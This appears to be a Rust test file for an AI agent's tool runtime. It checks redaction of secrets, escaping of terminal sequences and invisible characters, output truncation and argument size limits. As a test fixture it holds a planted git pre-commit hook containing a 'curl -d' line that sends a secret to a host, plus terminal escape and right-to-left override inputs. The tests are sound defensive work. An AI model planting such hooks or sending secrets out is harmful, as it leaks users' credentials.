//! What the model, the journal and the disk may see of an output.

#![expect(clippy::unwrap_used, reason = "a test that cannot set up must fail loudly")]

mod common;

use std::path::Path;
use std::sync::Arc;

use common::{Printer, builder, fake, journal, open_schema, says, shell_tool};
use helve_core::{
    Act, BoxFuture, Call, Cancel, Cause, Denied, Ended, ErrorKind, Exit, Output, OutputSink, Removed,
    SandboxReport, ShellBackend, ShellJob, ToolError, ToolSpec,
};
use pretty_assertions::assert_eq;
use serde_json::json;

const SECRET: &str = "hunter2-correct-horse";

/// Every byte of every file under `dir`.
fn everything_under(dir: &Path) -> Vec<u8> {
    let mut all = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            all.extend(everything_under(&path));
        } else {
            all.extend(std::fs::read(&path).unwrap());
        }
    }
    all
}

fn contains(haystack: &[u8], needle: &str) -> bool {
    haystack.windows(needle.len()).any(|window| window == needle.as_bytes())
}

fn with_secret(root: &Path, extra: &str) -> String {
    let file = root.join("token");
    std::fs::write(&file, format!("{SECRET}\n")).unwrap();
    format!("{extra}\n[[secrets]]\nfile = {:?}\n", file.to_str().unwrap())
}

#[tokio::test]
async fn a_secret_split_over_chunks_reaches_neither_model_nor_disk() {
    let dir = tempfile::tempdir().unwrap();
    let policy = with_secret(dir.path(), "");
    let filler: &'static str = Box::leak("filler line\n".repeat(2000).into_boxed_str());
    let printer = Printer {
        contained: true,
        pieces: vec![filler, "a hunter2-cor", "rect-horse b"],
        runs: Arc::default(),
    };
    let runtime =
        builder(dir.path(), &policy).register(shell_tool()).shell(Arc::new(printer)).build().unwrap();
    let result = runtime.call(Call::new("sh", json!({"command": "print it"}))).await;
    assert!(result.ok, "{result:?}");
    assert!(result.details["blob"].is_string(), "the output is long enough for a blob");
    let disk = everything_under(&dir.path().join("state"));
    assert!(!contains(&disk, SECRET));
    assert!(contains(&disk, "a [REDACTED:token] b"), "the blob has the mark in its place");
}

/// A sandbox that says what it refused.
struct Witness(Vec<Denied>);

impl ShellBackend for Witness {
    fn report(&self) -> SandboxReport {
        SandboxReport { backend: "witness".into(), layers: Vec::new() }
    }

    fn contains(&self) -> bool {
        true
    }

    fn run<'a>(
        &'a self,
        _job: ShellJob,
        _sink: Box<dyn OutputSink>,
        _cancel: Cancel,
    ) -> BoxFuture<'a, Result<Ended, ToolError>> {
        let ended = Ended { denied: self.0.clone(), ..Ended::plain(Exit::Code(0), self.report()) };
        Box::pin(async move { Ok(ended) })
    }
}

#[tokio::test]
async fn what_was_refused_is_explained_clean_and_short() {
    let dir = tempfile::tempdir().unwrap();
    let policy = with_secret(dir.path(), "");
    let denied = |path: String| Denied { act: Act::Read(path.into()), cause: Cause::NotShown, times: 1 };
    let all = vec![
        denied("/etc/plain".into()),
        denied(format!("/etc/{SECRET}")),
        denied("/etc/\u{1b}[31mred".into()),
        denied(format!("/etc/{}", "long/".repeat(800))),
    ];
    let runtime =
        builder(dir.path(), &policy).register(shell_tool()).shell(Arc::new(Witness(all))).build().unwrap();
    let result = runtime.call(Call::new("sh", json!({"command": "look"}))).await;
    let told = &result.details["refused"];
    let plain = json!({
        "act": "read", "subject": "/etc/plain", "rule": "not in view.read_only or view.read_write",
        "grant": "view.read_only = [\"/etc/plain\"]", "times": 1,
    });
    assert_eq!(told[0], plain);
    assert_eq!(told[1]["subject"], "/etc/[REDACTED:token]");
    assert!(
        told[1].get("grant").is_none() && told[1]["note"].is_string(),
        "a changed line grants another thing"
    );
    assert!(!told[2]["subject"].as_str().unwrap().contains('\u{1b}'));
    assert_eq!(told[2]["grant"], r#"view.read_only = ["/etc/\u001b[31mred"]"#);
    assert!(told[3]["subject"].as_str().unwrap().chars().count() < 600, "{told}");
    assert!(!contains(&everything_under(&dir.path().join("state")), SECRET));
}

/// A sandbox that has taken a file away.
struct Sweeper(Removed);

impl ShellBackend for Sweeper {
    fn report(&self) -> SandboxReport {
        SandboxReport { backend: "sweeper".into(), layers: Vec::new() }
    }

    fn contains(&self) -> bool {
        true
    }

    fn run<'a>(
        &'a self,
        _job: ShellJob,
        _sink: Box<dyn OutputSink>,
        _cancel: Cancel,
    ) -> BoxFuture<'a, Result<Ended, ToolError>> {
        let ended = Ended {
            removed: vec![self.0.clone(), Removed { content: Vec::new(), ..self.0.clone() }],
            ..Ended::plain(Exit::Code(0), self.report())
        };
        Box::pin(async move { Ok(ended) })
    }
}

#[tokio::test]
async fn what_is_taken_out_is_kept_without_secrets() {
    let dir = tempfile::tempdir().unwrap();
    let policy = with_secret(dir.path(), "");
    let removed = Removed {
        path: "n/.git/hooks/\u{1b}[31mpre-commit".into(),
        why: "a hook of git".into(),
        content: format!("curl -d {SECRET} host\n").into_bytes(),
    };
    let runtime = builder(dir.path(), &policy)
        .register(shell_tool())
        .shell(Arc::new(Sweeper(removed)))
        .build()
        .unwrap();
    let result = runtime.call(Call::new("sh", json!({"command": "plant it"}))).await;
    assert!(result.ok, "{result:?}");
    let told = &result.details["taken_out"];
    assert!(!told.to_string().contains("\\u001b"), "{told}");
    assert_eq!(told[0]["why"], "a hook of git");
    let kept = "curl -d [REDACTED:token] host\n";
    assert_eq!(told[0]["blob"][1], kept.len());
    assert_eq!(told[1]["blob"], json!(null), "nothing is kept of an empty file");
    let disk = everything_under(&dir.path().join("state"));
    assert!(contains(&disk, kept) && !contains(&disk, SECRET));
}

#[tokio::test]
async fn secrets_in_arguments_details_and_errors_are_not_recorded() {
    let dir = tempfile::tempdir().unwrap();
    let policy = with_secret(dir.path(), "");
    let schema =
        json!({"type": "object", "properties": {"a": {"type": "string"}, "key": {"type": "string"}}});
    let spec = ToolSpec::new("t", "", schema).sensitive(&["key"]).read_only();
    let tool = fake(spec, |args, _| {
        Box::pin(async move {
            let details = json!({"seen": args["a"], "key_length": args["key"].as_str().unwrap_or("").len()});
            Ok(Output::text(format!("got {}", args["a"]))
                .with_details(details)
                .with_raw(format!("raw {}", args["a"])))
        })
    });
    let runtime = builder(dir.path(), &policy).register(tool).build().unwrap();
    let result = runtime.call(Call::new("t", json!({"a": SECRET, "key": "private words"}))).await;
    assert_eq!(result.text(), "got \"[REDACTED:token]\"");
    assert_eq!(result.details, json!({"seen": "[REDACTED:token]", "key_length": 13}));
    let text = helve_core::Args::Text(format!("{{\"a\":[\"{SECRET}\"],\"key\":\"private words\"}}"));
    let invalid = runtime.call(Call::new("t", text)).await;
    assert!(!invalid.ok);
    let journal = journal(dir.path());
    assert!(!journal.contains(SECRET) && !journal.contains("private words"), "{journal}");
    assert!(journal.contains("\"raw\":\"raw "), "{journal}");
}

#[tokio::test]
async fn terminal_escapes_and_invisible_characters_become_visible() {
    let dir = tempfile::tempdir().unwrap();
    let runtime = builder(dir.path(), "").register(says("t", "\x1b]0;owned\x07 a\u{202e}b")).build().unwrap();
    let result = runtime.call(Call::new("t", json!({}))).await;
    assert_eq!(result.text(), "\\x1b]0;owned\\x07 a\\u{202e}b");
}

#[tokio::test]
async fn a_long_text_keeps_head_and_tail_with_the_exact_count() {
    let dir = tempfile::tempdir().unwrap();
    let long: &'static str = Box::leak(format!("start{}end", "ä".repeat(30_000)).into_boxed_str());
    let runtime = builder(dir.path(), "").register(says("t", long)).build().unwrap();
    let result = runtime.call(Call::new("t", json!({}))).await;
    let truncated = result.truncated.clone().unwrap();
    assert_eq!((truncated.chars, truncated.bytes), (20_008, 40_016));
    let text = result.text();
    assert!(text.starts_with("start") && text.ends_with("end"));
    assert!(text.contains("(20008 characters left out;"), "{}", &text[5000..5200]);
    let home = helve_store::Home::open(&dir.path().join("state")).unwrap();
    let blobs = helve_store::Blobs::open(&home, 1 << 20).unwrap();
    let whole = blobs.read_range(&truncated.blob.unwrap(), 0, 1 << 20).unwrap();
    assert_eq!(whole, long.as_bytes());
}

#[tokio::test]
async fn details_that_do_not_fit_their_schema_are_left_out_with_a_note() {
    let dir = tempfile::tempdir().unwrap();
    let schema = json!({"type": "object", "properties": {"n": {"type": "integer"}}, "required": ["n"]});
    let spec = ToolSpec::new("t", "", open_schema()).output_schema(schema).read_only();
    let tool = fake(spec, |_, _| Box::pin(async { Ok(Output::text("x").with_details(json!({"n": "one"}))) }));
    let runtime = builder(dir.path(), "").register(tool).build().unwrap();
    let result = runtime.call(Call::new("t", json!({}))).await;
    assert!(result.ok && result.details.is_null());
    assert!(result.notes[0].contains("do not fit"), "{:?}", result.notes);
}

/// A tool that says that its text was cut already, as `read_output` does.
fn claims_cut(text: &'static str) -> common::Fake {
    let spec = ToolSpec::new("t", "", open_schema()).read_only();
    fake(spec, move |_, _| {
        Box::pin(async move {
            let mut output = Output::text(text);
            output.truncated = Some(helve_core::Truncated { bytes: 7, ..helve_core::Truncated::default() });
            Ok(output)
        })
    })
}

#[tokio::test]
async fn a_tool_cannot_talk_its_way_past_redaction_or_the_budget() {
    let dir = tempfile::tempdir().unwrap();
    let policy = with_secret(dir.path(), "");
    let text: &'static str = Box::leak(format!("\x1b[2J {SECRET} {}", "x".repeat(50_000)).into_boxed_str());
    let runtime = builder(dir.path(), &policy).register(claims_cut(text)).build().unwrap();
    let result = runtime.call(Call::new("t", json!({}))).await;
    assert!(result.text().starts_with("\\x1b[2J [REDACTED:token] xxx"), "{}", result.text());
    assert!(result.text().chars().count() < 10_300);
    assert!(result.truncated.unwrap().bytes > 40_000);
}

#[tokio::test]
async fn a_page_keeps_its_middle_up_to_its_own_limit_and_is_cleaned_like_any_text() {
    let dir = tempfile::tempdir().unwrap();
    let policy = with_secret(dir.path(), "limits.page_chars = 60_000");
    let tool = fake(ToolSpec::new("t", "", open_schema()).read_only(), |args, _| {
        Box::pin(async move {
            let count = usize::try_from(args["count"].as_u64().unwrap_or(0)).unwrap_or(0);
            Ok(Output::text(format!("{}\x07{SECRET}{}", "a".repeat(count), "b".repeat(count))).as_page())
        })
    });
    let runtime = builder(dir.path(), &policy).register(tool).build().unwrap();
    let whole = runtime.call(Call::new("t", json!({"count": 20_000}))).await;
    let expected = format!("{}\\x07[REDACTED:token]{}", "a".repeat(20_000), "b".repeat(20_000));
    assert!(whole.text() == expected && whole.truncated.is_none());
    let cut = runtime.call(Call::new("t", json!({"count": 40_000}))).await;
    assert!(cut.text().chars().count() < 60_300 && cut.truncated.unwrap().blob.is_some());
}

#[tokio::test]
async fn a_secret_in_an_id_a_name_a_key_or_a_long_value_is_not_recorded() {
    let dir = tempfile::tempdir().unwrap();
    let policy = with_secret(dir.path(), "");
    let schema =
        json!({"type": "object", "properties": {"n": {"type": "integer"}}, "additionalProperties": false});
    let tool =
        fake(ToolSpec::new("t", "", schema).read_only(), |_, _| Box::pin(async { Ok(Output::text("")) }));
    let runtime = builder(dir.path(), &policy).register(tool).build().unwrap();
    let escaped: String = SECRET.chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect();
    let long = format!("{}{SECRET}", "y".repeat(50));
    let texts = [
        format!("{{\"n\":\"{SECRET}\"}}"),
        format!("{{\"n\":\"{escaped}\"}}"),
        format!("{{\"{SECRET}\":1}}"),
        format!("{{\"n\":\"{long}\"}}"),
        format!("{{\"n\":\"{SECRET}\""),
        format!("{{\"n\":\"{escaped}"),
        r#"{"n":"hunt\u0065r2-correct-horse and no end"#.to_owned(),
        r#"{"n":"\q","m":"hunt\u0065r2-correct-horse"}"#.to_owned(),
        r"{'n':'hunt\u0065r2-correct-horse'}".to_owned(),
    ];
    for text in texts {
        for tool in ["t", "nothing"] {
            let result = runtime.call(Call::new(tool, helve_core::Args::Text(text.clone()))).await;
            let shown = serde_json::to_string(&result).unwrap();
            assert!(!shown.contains("hunter2"), "{shown}");
        }
    }
    runtime.call(Call { id: Some(json!(SECRET)), ..Call::new("t", json!({})) }).await;
    runtime.call(Call::new(SECRET, json!({"a": SECRET}))).await;
    let disk = everything_under(&dir.path().join("state"));
    assert!(!contains(&disk, "hunter2"), "{}", journal(dir.path()));
    assert!(!contains(&disk, "0065r2") && !contains(&disk, "u0068"), "{}", journal(dir.path()));
}

/// Whoever sends a text chooses how much of it looks like the beginning of a string.
#[tokio::test]
async fn a_long_text_without_an_end_is_read_once() {
    let dir = tempfile::tempdir().unwrap();
    for policy in ["", &with_secret(dir.path(), "")] {
        let runtime = builder(dir.path(), policy).register(says("t", "x")).build().unwrap();
        for tool in ["t", "nothing"] {
            let text = format!("{{\"a\":\"{}", "\\\"".repeat(300_000));
            let began = std::time::Instant::now();
            assert!(!runtime.call(Call::new(tool, helve_core::Args::Text(text))).await.ok);
            assert!(began.elapsed().as_secs() < 5, "{:?}", began.elapsed());
        }
    }
}

#[tokio::test]
async fn arguments_beyond_the_limit_are_not_recorded_whatever_the_tool() {
    let dir = tempfile::tempdir().unwrap();
    let runtime =
        builder(dir.path(), "[limits]\nargs_bytes = 2000\n").register(says("t", "x")).build().unwrap();
    for tool in ["t", "nothing"] {
        let text = format!("{{\"a\":\"{}", "words ".repeat(1000));
        assert!(!runtime.call(Call::new(tool, helve_core::Args::Text(text))).await.ok);
    }
    assert!(!journal(dir.path()).contains("words"), "{}", journal(dir.path()));
}

#[tokio::test]
async fn arguments_beyond_the_limit_are_refused_with_the_limit() {
    let dir = tempfile::tempdir().unwrap();
    let schema = json!({"type": "object", "properties": {"key": {"type": "string"}}, "required": ["key"]});
    let spec = ToolSpec::new("close", "", schema).sensitive(&["key"]);
    let close = fake(spec, |_, _| Box::pin(async { Ok(Output::text("")) }));
    let runtime = builder(dir.path(), "[limits]\nargs_bytes = 2000\n")
        .register(says("t", "x"))
        .register(close)
        .build()
        .unwrap();
    let value = json!({"key": "a".repeat(3000)});
    let texts = [value.to_string(), " ".repeat(3000), "[".repeat(3000), "x".repeat(3000)];
    for args in texts.map(helve_core::Args::Text).into_iter().chain([value.into()]) {
        for tool in ["t", "close"] {
            let result = runtime.call(Call::new(tool, args.clone())).await;
            let error = result.error.as_ref().unwrap();
            assert_eq!(error.kind, ErrorKind::TooLarge, "{error:?}");
            assert!(error.message.contains("longer than the limit of 2000 bytes"), "{error:?}");
            assert!(error.hint.as_ref().is_some_and(|hint| hint.contains("limits.args_bytes")), "{error:?}");
        }
    }
}

const PIN: u64 = 918_273_645;

/// A secret of digits may come as a JSON number: in arguments, details and ids.
#[tokio::test]
async fn a_secret_number_is_told_nowhere() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("token"), PIN.to_string()).unwrap();
    let policy = format!("[[secrets]]\nfile = {:?}\n", dir.path().join("token").to_str().unwrap());
    let schema = json!({"type": "object", "properties": {"n": {"type": "integer"}, "s": {"type": "string"}}});
    let details = json!({"type": "object", "properties": {"n": {"type": "integer"}}});
    let spec = ToolSpec::new("t", "", schema).read_only().output_schema(details);
    let tool = fake(spec, |args, _| {
        Box::pin(async move { Ok(Output::text("done").with_details(json!({"n": args["n"]}))) })
    });
    let runtime = builder(dir.path(), &policy).register(tool).build().unwrap();
    let result = runtime.call(Call { id: Some(json!(PIN)), ..Call::new("t", json!({"n": PIN})) }).await;
    assert_eq!((result.text().as_str(), &result.details), ("done", &json!({"n": "[REDACTED:token]"})));
    assert_eq!((result.id, result.notes), (Some(json!("[REDACTED:token]")), vec![]));
    for text in [format!("{{\"s\":{PIN}}}"), format!("{{\"s\":[{PIN}],\"n\":true}}")] {
        let result = runtime.call(Call::new("t", helve_core::Args::Text(text))).await;
        let shown = serde_json::to_string(&result).unwrap();
        assert!(!result.ok && !shown.contains("malformed"), "{shown}");
        assert!(!shown.contains(&PIN.to_string()), "{shown}");
    }
    assert!(!journal(dir.path()).contains(&PIN.to_string()), "{}", journal(dir.path()));
}

#[tokio::test]
async fn a_secret_in_the_name_of_a_workspace_or_a_session_is_not_written_down() {
    let dir = tempfile::tempdir().unwrap();
    let policy = with_secret(dir.path(), "");
    let place = dir.path().join(format!("w-{SECRET}"));
    std::fs::create_dir(&place).unwrap();
    let begun = || builder(dir.path(), &policy).register(says("t", "x")).workspace(&place);
    let runtime = begun().build().unwrap();
    assert!(runtime.call(Call::new("t", json!({}))).await.ok);
    assert!(journal(dir.path()).contains("w-[REDACTED:token]"), "{}", journal(dir.path()));
    assert!(!journal(dir.path()).contains(SECRET));
    let refused = begun().session(format!("s-{SECRET}")).build().err().unwrap().to_string();
    assert!(refused.contains("the session's name") && !refused.contains(SECRET), "{refused}");
}

#[tokio::test]
async fn a_refused_sensitive_parameter_is_not_shown() {
    let dir = tempfile::tempdir().unwrap();
    let schema = json!({
        "type": "object",
        "properties": {"key": {"type": "string", "maxLength": 3}, "n": {"type": "integer"}},
        "additionalProperties": false,
    });
    let spec = ToolSpec::new("t", "", schema).sensitive(&["key"]).read_only();
    let tool = fake(spec, |_, _| Box::pin(async { Ok(Output::text("")) }));
    let runtime = builder(dir.path(), "").register(tool).build().unwrap();
    for args in [json!({"key": "swordfish", "n": "x"}), json!({"kee": "swordfish"})] {
        let result = runtime.call(Call::new("t", args)).await;
        assert!(!result.ok);
        let shown = serde_json::to_string(&result).unwrap();
        assert!(!shown.contains("swordfish"), "{shown}");
    }
    assert!(!journal(dir.path()).contains("swordfish"), "{}", journal(dir.path()));
    let open = runtime.call(Call::new("t", json!({"n": "codfish"}))).await;
    assert!(open.text().contains("codfish"), "what is not sensitive is shown: {}", open.text());
}

#[tokio::test]
async fn long_errors_and_large_details_are_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let spec = |name: &str| ToolSpec::new(name, "", open_schema()).read_only();
    let fails = fake(spec("fails"), |_, _| Box::pin(async { Err(ToolError::failed("e".repeat(100_000))) }));
    let large = fake(spec("large"), |_, _| {
        Box::pin(async { Ok(Output::text("x").with_details(json!({"d": "d".repeat(300 << 10)}))) })
    });
    let runtime = builder(dir.path(), "").register(fails).register(large).build().unwrap();
    let failed = runtime.call(Call::new("fails", json!({}))).await;
    assert!(failed.text().len() < 10_000 && failed.error.unwrap().message.len() < 10_000);
    let result = runtime.call(Call::new("large", json!({}))).await;
    assert!(
        result.ok && result.details.is_null() && result.notes[0].contains("left out"),
        "{:?}",
        result.notes
    );
}
